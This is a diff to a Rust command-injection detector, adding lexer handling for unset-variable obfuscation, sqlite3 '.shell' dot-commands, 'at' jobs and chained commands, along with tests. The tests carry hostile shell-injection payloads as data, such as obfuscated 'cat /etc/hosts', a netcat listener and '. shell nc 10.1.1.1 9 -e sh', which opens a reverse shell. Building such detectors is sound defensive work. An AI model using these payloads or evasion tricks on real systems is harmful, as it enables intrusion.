@@ -38,6 +38,8 @@ const MAX_PATH_DIRS: usize = 64;
 const MAX_TOKENS: usize = 8_192;
 const MAX_DEPTH: u8 = 6;
 const MAX_WORD: usize = 256;
+/// Variables remembered per word (a command name holds a few at most).
+const MAX_VAR_SPANS: usize = 16;
 /// Glob resolutions per value: each one scans the command set.
 const MAX_GLOBS: u32 = 4;
 
@@ -170,7 +172,14 @@ impl CmdiDetector {
             None
         };
         let shell = untagged.as_deref().unwrap_or(text);
-        if shell.bytes().any(|b| SHELL_BYTES[b as usize]) || self.first_word_known(shell) {
+        // `" ping -n 3 x`: a closing quote and a space before the first word.
+        let after_quote = shell
+            .strip_prefix(['"', '\''])
+            .filter(|r| r.starts_with([' ', '\t']));
+        if shell.bytes().any(|b| SHELL_BYTES[b as usize])
+            || self.first_word_known(shell)
+            || after_quote.is_some_and(|r| self.first_word_known(r))
+        {
             self.lex_views(shell, &mut best);
         }
         // Payload lists often carry a newline as the two characters `\n`, at the start of the
@@ -291,6 +300,9 @@ impl CmdiDetector {
                 }
             }
             let toks = Lexer::new(text).run(start);
+            // `" ping -n 3 x`: the value closes the quote it was pasted into and goes on with a
+            // command line of its own, read as if the value started after the quote.
+            let skip = usize::from(start.is_some() && closes_then_space(&toks, text));
             let mut a = Analysis {
                 det: self,
                 src: text,
@@ -300,7 +312,7 @@ impl CmdiDetector {
                 assigned: Vec::new(),
                 best: None,
             };
-            a.list(&toks, Opener::ValueStart, true);
+            a.list(&toks[skip..], Opener::ValueStart, true);
             if let Some(mut s) = a.best {
                 if start.is_some() {
                     s.evidence.push_str(" (value read as closing a quote)");
@@ -354,6 +366,21 @@ impl CmdiDetector {
             .filter(|c| glob_match(pattern.as_bytes(), c.as_bytes()))
             .min()
             .cloned()
+    }
+}
+
+/// The first token is an empty word that only closes the quote the value starts in, and
+/// whitespace follows it.
+fn closes_then_space(toks: &[Tok], text: &str) -> bool {
+    match toks.first() {
+        Some(Tok::Word(w)) => {
+            toks.len() > 1
+                && w.starts_in_quote
+                && w.text.is_empty()
+                && w.substs.is_empty()
+                && matches!(text.as_bytes().get(w.end), Some(b' ' | b'\t'))
+        }
+        _ => false,
     }
 }
 
@@ -573,6 +600,10 @@ struct Word {
     hidden_expansion: bool,
     /// Contains `$NAME`, `${...}` or `$((...))`.
     var: bool,
+    /// Byte ranges of `text` that are `$NAME` or `${...}` (at most [`MAX_VAR_SPANS`]): the word
+    /// as an unset variable leaves it is `text` without them. Kept as spans because `text` has
+    /// lost the boundary a quote or backslash drew (`c$u\at` is `c`, `$u`, `at`, not `$uat`).
+    var_spans: Vec<(usize, usize)>,
     /// Separated from the previous word by `$IFS` rather than whitespace.
     ifs: bool,
     /// Began inside a quote the value did not open (the value closes it).
@@ -583,6 +614,33 @@ struct Word {
 }
 
 impl Word {
+    /// `text` as the shell expands it when its variables are unset; None without variables.
+    fn without_vars(&self) -> Option<String> {
+        if self.var_spans.is_empty() {
+            return None;
+        }
+        let mut out = String::with_capacity(self.text.len());
+        let mut at = 0;
+        for &(s, e) in &self.var_spans {
+            out.push_str(self.text.get(at..s)?);
+            at = e;
+        }
+        out.push_str(self.text.get(at..)?);
+        Some(out)
+    }
+
+    /// The only variable of the word ends it (`ar$a`).
+    fn only_trailing_var(&self) -> bool {
+        matches!(self.var_spans.as_slice(), [(_, e)] if *e == self.text.len())
+    }
+
+    /// Records that `text[at..]` is a variable just pushed.
+    fn var_span(&mut self, at: usize) {
+        if self.var_spans.len() < MAX_VAR_SPANS {
+            self.var_spans.push((at, self.text.len()));
+        }
+    }
+
     fn split_by_quotes(&self) -> bool {
         self.quote_opens >= 2 || (self.quote_opens == 1 && self.unquoted_chars && !self.tail_quote)
     }
@@ -1025,8 +1083,10 @@ impl<'a> Lexer<'a> {
                     Some(p) => {
                         let inner = &self.s[self.i + 2..self.i + p];
                         if w.text.len() < MAX_WORD {
+                            let at = w.text.len();
                             w.text.push('$');
                             w.text.push_str(inner);
+                            w.var_span(at);
                         }
                         w.var = true;
                         self.i += p + 1;
@@ -1048,7 +1108,9 @@ impl<'a> Lexer<'a> {
                     self.i += 1;
                 }
                 if w.text.len() < MAX_WORD {
+                    let at = w.text.len();
                     w.text.push_str(&self.s[start..self.i]);
+                    w.var_span(at);
                 }
                 w.var = true;
             }
@@ -1174,6 +1236,9 @@ enum Prefix {
     Other,
     Prose,
     UrlParam,
+    /// A lone command word before the separator, and an attack tool after it (`time; visudo`,
+    /// `echo | gcc`): two commands chained, where prose ("time; less is more") chains words.
+    Command,
 }
 
 impl Prefix {
@@ -1181,7 +1246,7 @@ impl Prefix {
         match self {
             Prefix::Start => 0.5,
             Prefix::Quote => 0.45,
-            Prefix::Host | Prefix::Single => 0.4,
+            Prefix::Host | Prefix::Single | Prefix::Command => 0.4,
             Prefix::Number | Prefix::Other => 0.3,
             Prefix::Prose => 0.15,
             Prefix::UrlParam => 0.1,
@@ -1198,6 +1263,7 @@ impl Prefix {
             Prefix::Other => "after a non-prose token",
             Prefix::Prose => "after a word",
             Prefix::UrlParam => "after a query parameter",
+            Prefix::Command => "after another command",
         }
     }
 }
@@ -1514,6 +1580,20 @@ impl Analysis<'_, '_> {
                 prefix,
                 tight,
             } => {
+                // A spaced `&` joins words in prose ("cat & dig"); other separators rarely do.
+                let chaining = match kind {
+                    SepKind::Newline => false,
+                    SepKind::Amp => tight,
+                    _ => true,
+                };
+                let prefix = if prefix == Prefix::Prose
+                    && chaining
+                    && self.follows_lone_command(toks, sep, &name)
+                {
+                    Prefix::Command
+                } else {
+                    prefix
+                };
                 why.push(format!(
                     "separator '{}' {}",
                     kind.as_str(),
@@ -1828,6 +1908,18 @@ impl Analysis<'_, '_> {
                 }
                 return None;
             }
+            if let Some(found) = self.scheduled_or_inline(toks, j, seg_end) {
+                return Some(found);
+            }
+            // `. shell id`: the sqlite3 shell reads the dot-command's name after a space too.
+            let lone_dot = w.text == "."
+                && matches!(toks.get(j + 1), Some(Tok::Word(n)) if j + 1 < seg_end
+                    && builtins::sqlite_shell_name(&n.text));
+            if lone_dot {
+                wrapper_name = Some(".shell".into());
+                j += 2;
+                continue;
+            }
             if builtins::WRAPPERS.contains(&w.text.as_str()) || builtins::sqlite_shell(&w.text) {
                 if wrapper.is_none() {
                     wrapper = self.resolve(w).map(|(n, h)| (j, n, h));
@@ -1867,15 +1959,62 @@ impl Analysis<'_, '_> {
         wrapper.map(|(j, n, h)| (j, n, h, None))
     }
 
+    /// The separator at `sep` follows a lone known command word at a command position, and
+    /// `name` (the command after it) is an attack or administration tool.
+    fn follows_lone_command(&self, toks: &[Tok], sep: Option<usize>, name: &str) -> bool {
+        let Some(s) = sep.filter(|&s| s >= 1) else {
+            return false;
+        };
+        let Some(Tok::Word(prev)) = toks.get(s - 1) else {
+            return false;
+        };
+        let lone = s == 1 || matches!(toks.get(s - 2), Some(Tok::Sep { .. } | Tok::LParen));
+        lone && self.det.tools && is_tool(name) && self.det.known(&prev.text)
+    }
+
+    /// A command carried inside one quoted word at `j`: a sqlite3 dot-command whose quote runs
+    /// on into its command (`."shell whoami`), or a job handed to `at` (`at 2:00 "echo x"`:
+    /// `at` is an English word, so only with a time and a quoted command that names one).
+    fn scheduled_or_inline(
+        &mut self,
+        toks: &[Tok],
+        j: usize,
+        seg_end: usize,
+    ) -> Option<(usize, String, How, Option<String>)> {
+        let Some(Tok::Word(w)) = toks.get(j) else {
+            return None;
+        };
+        if builtins::sqlite_shell(&w.text) {
+            let inner = builtins::sqlite_inline_command(&w.text)?;
+            let (name, _) = self.lookup(inner)?;
+            return Some((j, name, How::Plain, Some(".shell".into())));
+        }
+        if w.text != "at" || j + 2 >= seg_end {
+            return None;
+        }
+        let (Some(Tok::Word(time)), Some(Tok::Word(job))) = (toks.get(j + 1), toks.get(j + 2))
+        else {
+            return None;
+        };
+        if !builtins::at_time(&time.text) || job.quote_opens == 0 {
+            return None;
+        }
+        let first = job.text.split_whitespace().next()?;
+        let (name, _) = self.lookup(first)?;
+        Some((j + 2, name, How::Plain, Some("at".into())))
+    }
+
     fn resolve(&mut self, w: &Word) -> Option<(String, How)> {
         let text = w.text.as_str();
         if text.is_empty() {
             return None;
         }
         if let Some(first) = brace_expansion_first(text) {
-            let (name, _) = self
-                .lookup(&first)
-                .or_else(|| self.lookup(&without_variables(&first, false)))?;
+            let unset = w
+                .without_vars()
+                .and_then(|t| brace_expansion_first(&t))
+                .unwrap_or_else(|| without_variables(&first, false));
+            let (name, _) = self.lookup(&first).or_else(|| self.lookup(&unset))?;
             return Some((name, How::Brace));
         }
         if matches!(text, "$SHELL" | "$BASH" | "$COMSPEC") {
@@ -1893,14 +2032,20 @@ impl Analysis<'_, '_> {
         let (name, how) = match self.lookup(text) {
             Some(found) => found,
             // `uname$u`, `c$_at`: variables the value never set expand to nothing.
-            None if w.var => [false, true]
-                .iter()
-                .map(|&special| without_variables(text, special))
+            None if w.var => [w.without_vars(), Some(without_variables(text, true))]
+                .into_iter()
+                .flatten()
+                .flat_map(|t| {
+                    // A backslash left in the name (`cu$v\\r\l`) is no part of a Unix command.
+                    let bare = t.contains('\\').then(|| t.replace('\\', ""));
+                    [Some(t), bare]
+                })
+                .flatten()
                 .filter(|t| !t.is_empty() && t != text)
                 .find_map(|t| self.lookup(&t))
                 .map(|(n, _)| {
                     // A name ending in `$x` is as often a password or a template as a trick.
-                    let how = if only_trailing_variable(text) {
+                    let how = if w.only_trailing_var() {
                         How::Plain
                     } else {
                         How::Obfuscated("an empty variable")
@@ -2246,15 +2391,6 @@ fn without_variables(text: &str, special: bool) -> String {
         i += len;
     }
     out
-}
-
-/// The only variable of `text` ends it (`ar$a`).
-fn only_trailing_variable(text: &str) -> bool {
-    text.find('$').is_some_and(|p| {
-        text[p + 1..]
-            .bytes()
-            .all(|c| c.is_ascii_alphanumeric() || c == b'_')
-    })
 }
 
 /// `name=value` where bash accepts the name as an alias (`ls-al`, `..`).
@@ -3427,6 +3563,122 @@ mod tests {
             "x",
         ] {
             assert_eq!(d.names_a_command(w), d.knows(w), "{w}");
+        }
+    }
+
+    #[test]
+    fn unset_variables_keep_the_word_boundary_a_backslash_drew() {
+        // `$u\at` is `$u` then `at`: the name is `cat`, not `c` plus a variable `$uat`.
+        for t in [
+            "c$u\\at /etc/hosts",
+            ";c$u\\at /etc/hosts",
+            "{n$u\\c$u,-lvp,4444}",
+            "x;w$@hoami",
+            "c''at /etc/hosts",
+        ] {
+            attack(t);
+        }
+        for t in ["The price is $uat", "ar$a"] {
+            benign(t);
+        }
+        let w = &Lexer::new("c$u\\at").run(None)[0];
+        let Tok::Word(w) = w else {
+            panic!("expected a word");
+        };
+        assert_eq!(w.without_vars().as_deref(), Some("cat"));
+        assert!(!w.only_trailing_var());
+    }
+
+    #[test]
+    fn backslashes_left_in_a_name_with_an_unset_variable() {
+        attack("v='u';cu$v\\\\r\\l example.com");
+        benign("path\\to$dir");
+    }
+
+    #[test]
+    fn sqlite_dot_commands_with_quotes_or_a_space() {
+        for t in [
+            "1;.\\\"shell whoami",
+            "1;.\\'shell whoami",
+            "1;.\"shell whoami",
+            "1;.shell whoami",
+            "\";\n. shell nc 10.1.1.1 9 -e sh\n",
+        ] {
+            attack(t);
+        }
+        for t in [
+            "The end. shell out the cash",
+            "1;.shell",
+            "see .sh files; . shell",
+        ] {
+            benign(t);
+        }
+        assert!(builtins::sqlite_shell(".\"shell"));
+        assert!(builtins::sqlite_shell(".sys"));
+        assert!(!builtins::sqlite_shell(".s"));
+        assert!(!builtins::sqlite_shell(".shelly"));
+        assert_eq!(builtins::sqlite_inline_command(".shell id -u"), Some("id"));
+        assert_eq!(builtins::sqlite_inline_command(".shell"), None);
+    }
+
+    #[test]
+    fn at_runs_a_quoted_command_only_with_a_time() {
+        attack(";at 2:00 \"echo test\"");
+        attack("1; at 10:30pm 'cat /etc/hosts'");
+        for t in [
+            "we meet; at 2:00 \"lunch\"",
+            "Meet me at 2:00 \"sharp\"",
+            "; at noon \"echo x\"",
+            "; at 2:00 echo",
+        ] {
+            benign(t);
+        }
+        assert!(builtins::at_time("2:00"));
+        assert!(builtins::at_time("11:45am"));
+        assert!(!builtins::at_time("2:0"));
+        assert!(!builtins::at_time("a:bc"));
+    }
+
+    #[test]
+    fn a_closing_quote_then_a_command_line() {
+        let d = det().with_tools();
+        for t in [
+            "\" ping -n 31 127.0.0.1",
+            "' ping -c 3 example.com",
+            "' cat /etc/hosts",
+        ] {
+            assert!(d.inspect(t).is_some(), "missed {t:?}");
+        }
+        for t in [
+            "He said 'ping me' later",
+            "He said \"ping me\" later",
+            "' less is more",
+            "\" cat is nice",
+            "' sleep well",
+        ] {
+            assert!(d.inspect(t).is_none(), "false positive on {t:?}");
+        }
+    }
+
+    #[test]
+    fn a_command_chained_to_an_attack_tool() {
+        let d = det().with_tools();
+        for t in [
+            "time; nc -lvp 4444",
+            "time; whoami",
+            "echo | gcc",
+            "echo;curl x.io",
+        ] {
+            assert!(d.inspect(t).is_some(), "missed {t:?}");
+        }
+        for t in [
+            "time; less is more",
+            "time | date",
+            "cat & ping",
+            "copy & paste",
+            "time; sort things out",
+        ] {
+            assert!(d.inspect(t).is_none(), "false positive on {t:?}");
         }
     }
 
